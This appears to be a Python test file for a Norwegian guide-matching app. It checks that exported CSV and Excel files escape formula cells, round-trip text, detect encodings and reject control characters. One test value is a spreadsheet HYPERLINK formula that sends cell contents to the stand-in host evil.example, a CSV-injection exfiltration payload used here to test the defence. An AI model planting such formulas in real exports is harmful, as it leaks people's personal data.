"""Every CSV we write opens right and cannot run; what spreadsheets write reads back."""
from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from guidematch import spreadsheets
from guidematch.profile import ProfileRecord
from guidematch.profile_csv import CsvError, profiles_to_csv, read_profiles
from guidematch.spreadsheets import (
    SheetError, csv_text, read_table, safe_cell, unsafe_cell, xlsx_bytes,
)

# Any text a person can type: every character but surrogates (not encodable), NUL included.
ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
FORMULA_CELLS = ['=HYPERLINK("http://evil.example/?"&D2&E2;"Se profil")', "+47 900 00 000",
                 "-2+3", "@SUM(A1:A2)", "\tindent", "\rreturn", "=1+1", "'quoted"]


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(cell):
    text = csv_text(["name"], [[cell]])
    assert text.startswith("\ufeffname\r\n")
    line = text.split("\r\n", 1)[1]
    assert line.lstrip('"').startswith("'" + cell[0])  # the quote comes first: no formula
    assert read_table(text.encode("utf-8")).rows[1][1] == [cell]


@given(ANY_TEXT)
def test_a_safe_cell_never_starts_a_formula_and_reads_back_unchanged(text):
    cell = safe_cell(text)
    assert not cell.startswith(spreadsheets.FORMULA_STARTS)
    assert unsafe_cell(cell) == text


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(ANY_TEXT, ANY_TEXT), min_size=1, max_size=5))
def test_any_text_written_as_csv_reads_back_the_same(rows):
    data = csv_text(["a", "b"], rows).encode("utf-8")
    table = read_table(data)
    assert table.encoding == "UTF-8 (BOM)" and table.separator == ","
    # A row of two empty cells is a blank line ("",): the reader gives it as [] or ["", ""].
    read = [cells or ["", ""] for _line, cells in table.rows[1:]]
    assert read == [list(row) for row in rows]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")),
                        min_size=1, max_size=30), min_size=1, max_size=4))
def test_exported_names_and_phones_import_as_they_were(names):
    records = [ProfileRecord("guide", f"g{n}", first_name=name, last_name=name[::-1], phone=name,
                             gender="female", occupation=name) for n, name in enumerate(names)]
    read = read_profiles(io.StringIO(profiles_to_csv(records, "guide")), "guide")
    assert [(r.first_name, r.last_name, r.phone, r.occupation) for r in read] == [
        (name, name[::-1], name, name) for name in names]


def test_norwegian_excel_csv_is_detected_semicolons_and_windows_1252():
    data = "fornavn;etternavn\r\nØystein;Ødegård\r\n".encode("cp1252")
    table = read_table(data)
    assert (table.encoding, table.separator) == ("Windows-1252", ";")
    assert table.rows == [(1, ["fornavn", "etternavn"]), (2, ["Øystein", "Ødegård"])]


@pytest.mark.parametrize(("data", "encoding"), [
    ("a,b\nÅse,x\n".encode("utf-8"), "UTF-8"),
    ("\ufeffa,b\nÅse,x\n".encode("utf-8"), "UTF-8 (BOM)"),
    ("a,b\nÅse,x\n".encode("cp1252"), "Windows-1252"),
])
def test_the_encoding_is_utf8_first_then_windows_1252(data, encoding):
    table = read_table(data)
    assert table.encoding == encoding and table.rows[1][1] == ["Åse", "x"]


def test_an_encoding_we_cannot_read_is_named_as_such():
    with pytest.raises(SheetError) as caught:
        read_table(b"a,b\n\x81\x8d,x\n")  # bytes that Windows-1252 leaves undefined
    assert "neither UTF-8 nor Windows-1252" in str(caught.value) and "byte 5" in str(caught.value)
    with pytest.raises(SheetError, match="UTF-16"):
        read_table("a,b\n".encode("utf-16"))


def test_a_cell_over_several_lines_keeps_the_line_it_starts_on():
    table = read_table(b'a,b\r\n"one\r\ntwo",x\r\nthree,y\r\n')
    assert table.rows == [(1, ["a", "b"]), (2, ["one\r\ntwo", "x"]), (4, ["three", "y"])]


def test_a_workbook_keeps_types_and_never_makes_a_formula():
    data = xlsx_bytes([("People", ["name", "born", "since", "lat", "at"],
                        [[FORMULA_CELLS[0], 1970, date(2026, 3, 15), 69.6496,
                          datetime(2026, 12, 3, 18, 0)]])])
    sheet = load_workbook(io.BytesIO(data)).active
    name, born, since, lat, at = sheet[2]
    assert (name.value, name.data_type) == (FORMULA_CELLS[0], "s")
    assert (born.value, born.data_type) == (1970, "n")
    assert since.is_date and since.value.date() == date(2026, 3, 15)
    assert lat.value == 69.6496 and at.value == datetime(2026, 12, 3, 18, 0)
    assert sheet.freeze_panes == "A2" and sheet.title == "People"


def test_a_workbook_reads_as_the_csv_form_text():
    data = xlsx_bytes([("S", ["fødselsår", "venter siden", "lat", "navn"],
                        [[1970, date(2026, 3, 15), 69.5, "=1+1"], [1985.0, None, None, "Åse"],
                         [1990, None, None, None]])])
    table = read_table(data)
    assert table.encoding == "XLSX"
    assert table.rows[1:] == [(2, ["1970", "2026-03-15", "69.5", "=1+1"]),
                              (3, ["1985", "", "", "Åse"]), (4, ["1990", "", "", ""])]


def test_a_file_that_is_not_a_workbook_is_said_so():
    with pytest.raises(SheetError, match="not an Excel workbook"):
        read_table(b"PK\x03\x04 not really a zip")


CONTROL = st.sampled_from(["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9f"])


@settings(max_examples=100, deadline=None)
@given(column=st.sampled_from(["first_name", "last_name", "phone", "district", "occupation"]),
       at=st.integers(1, 3), control=CONTROL, id_empty=st.booleans())
def test_a_control_character_is_refused_in_the_cell_that_holds_it(column, at, control, id_empty):
    # The reader looks at the whole row first; the error still names the first bad cell.
    # (Inside the text: at either end, strip() takes some of them away as white space.)
    clean = {"id": "" if id_empty else "g1", "first_name": "Kari", "last_name": "Nordmann",
             "phone": "+47 40000000", "district": "Sentrum", "occupation": "lærer"}
    cells = {**clean, column: clean[column][:at] + control + clean[column][at:]}
    text = ",".join(cells) + ",gender\n" + ",".join(cells.values()) + ",female\n"
    with pytest.raises(CsvError) as raised:
        read_profiles(io.StringIO(text), "guide")
    if id_empty:  # the id comes first in the row: its error is the one shown
        assert raised.value.column.endswith("(id)") and raised.value.message == "must not be empty"
    else:
        assert raised.value.column.endswith(f"({column})")
        assert "control character" in raised.value.message
